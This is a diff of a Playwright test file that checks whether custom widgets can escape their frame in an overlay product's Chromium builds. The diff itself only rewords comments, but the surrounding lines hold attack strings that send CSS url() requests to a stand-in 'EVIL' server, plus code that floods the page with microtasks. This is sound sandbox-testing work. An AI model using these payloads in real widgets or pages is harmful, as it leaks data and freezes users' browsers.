@@ -11,14 +11,15 @@ import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
 import { openEvilServer } from './support/evilServer.ts';
 import { alertOf, expect, test } from './support/fixtures.ts';
 
-/* Ways out of a widget's frame: text written in parts, APIs that send later, and code in URLs (SPEC CUS-43). */
+/* Ways out of a widget's frame: text that is written in pieces, APIs that send later, and code in URLs (SPEC CUS-43). */
 
 const desktopChromium = process.env.OVATION_DESKTOP_CHROMIUM ?? '/usr/bin/chromium';
-/** If the variable names a build that does not exist, the tests fail. */
+/** Whether to test a desktop Chromium. If the variable gives a path that does not exist, the tests fail instead of being skipped. */
 const hasDesktop = process.env.OVATION_DESKTOP_CHROMIUM !== undefined || existsSync(desktopChromium);
 
 /**
- * `EVIL` is an address that must not receive anything, `HOST` is a name that must not be looked up, and `sub` names the attack.
+ * `EVIL` is the address of a server that must not receive anything. `HOST` is a name that must not be looked up. `sub` is
+ * different for each attack.
  */
 const attacks: Readonly<Record<string, string>> = {
   'shadow-in-parts':
@@ -75,7 +76,7 @@ const attacks: Readonly<Record<string, string>> = {
     "add('i', { style: 'float: left; shape-outside: url(' + EVIL + 'shape); offset-path: url(' + EVIL + 'offset#x); clip-path: url(' + EVIL + 'clip#x)' })",
 };
 
-/** Code that blocks the page in every possible way while an alert is shown. */
+/** Code that tries to block the page in different ways while an alert is shown. */
 const floods: Readonly<Record<string, string>> = {
   microtasks: 'const again = () => Promise.resolve().then(again); again();',
   frames:
@@ -87,7 +88,7 @@ const floods: Readonly<Record<string, string>> = {
 
 const builds = [
   { name: 'of the tests', path: () => obsChromium(127) },
-  // A desktop Chromium is about as new as that of OBS 33.
+  // A desktop Chromium is about as new as the Chromium of OBS 33.
   hasDesktop ? { name: 'of a desktop', path: async () => desktopChromium } : { name: 'nearest to OBS 33’s', path: () => obsChromium(149) },
 ];
 
@@ -129,9 +130,9 @@ for (const { name, path } of builds)
     overlay.on('dialog', (dialog) => downloads.push(dialog.message()));
     await overlay.goto(product.overlay);
     await expect(widgetFrame(overlay).locator('#tried')).toHaveText('all');
-    await overlay.waitForTimeout(1_500); // there is no answer to wait for
+    await overlay.waitForTimeout(1_500); // waits a fixed time, because an attack that sends nothing gets no answer
     const { length: pages } = context.pages();
-    await overlay.goto('about:blank'); // when a page closes, it sends what it has not sent yet
+    await overlay.goto('about:blank'); // when a page closes, it sends everything that it had not sent
     await overlay.waitForTimeout(500);
     await context.close();
     const text = await readFile(log, 'utf8');
